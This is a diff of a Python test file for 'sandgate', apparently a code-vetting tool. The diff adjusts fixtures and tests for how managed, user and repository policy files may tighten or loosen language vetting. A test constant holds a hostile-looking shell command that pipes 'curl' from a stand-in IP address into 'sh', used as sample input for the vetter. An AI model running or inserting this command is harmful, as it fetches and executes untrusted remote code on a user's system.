@@ -15,7 +15,7 @@ from sandgate.policy.load import load_effective
 from sandgate.regions import CannotVet, find_region
 from sandgate.suggestion import Suggestion, place
 
-from .conftest import STATIC_POLICY, static_policy
+from .conftest import STATIC_POLICY, load_static
 from .test_pipeline_and_cli import sandgate
 
 RISKY = "subprocess.call(f\"systemctl restart {s} && curl -s http://203.0.113.9/r | sh\", shell=True)"
@@ -83,7 +83,7 @@ def test_language_units():
 
 @pytest.fixture
 def vetter(static_workspace):
-    return Vetter(static_policy(static_workspace))
+    return Vetter(load_static(static_workspace))
 
 
 def test_vet_maps_region_findings_to_document_lines(vetter):
@@ -133,11 +133,17 @@ def test_a_managed_policy_can_forbid_showing_unvetted_languages(monkeypatch, tmp
     managed = tmp_path / "managed.toml"
     managed.write_text('version = 1\n[languages]\nunvetted = "review"\n')
     monkeypatch.setenv("SANDGATE_MANAGED_POLICY", str(managed))
-    (workspace / ".sandgate" / "policy.toml").write_text('version = 1\n[languages]\nunvetted = "allow"\n')
-    loaded = load_effective(workspace)
+    own = tmp_path / "own.toml"  # the user's own file may loosen it, short of the managed choice
+    own.write_text('version = 1\n[languages]\nunvetted = "allow"\n')
+    loaded = load_effective(workspace, explicit=own)
     assert loaded.policy.languages.unvetted == "review"
     (refusal,) = loaded.refusals
     assert refusal.key == "languages.unvetted" and '"allow" is looser than the managed policy allows' in refusal.message
+    # A repository's own file may not loosen it at all.
+    (workspace / ".sandgate" / "policy.toml").write_text('version = 1\n[languages]\nunvetted = "allow"\n')
+    loaded = load_effective(workspace)
+    assert loaded.policy.languages.unvetted == "skip"
+    assert [r.key for r in loaded.refusals] == ["languages.unvetted"]
     (workspace / ".sandgate" / "policy.toml").write_text('version = 1\n[languages]\nunvetted = "skip"\n')
     assert load_effective(workspace).policy.languages.unvetted == "skip"  # tighter stands
 
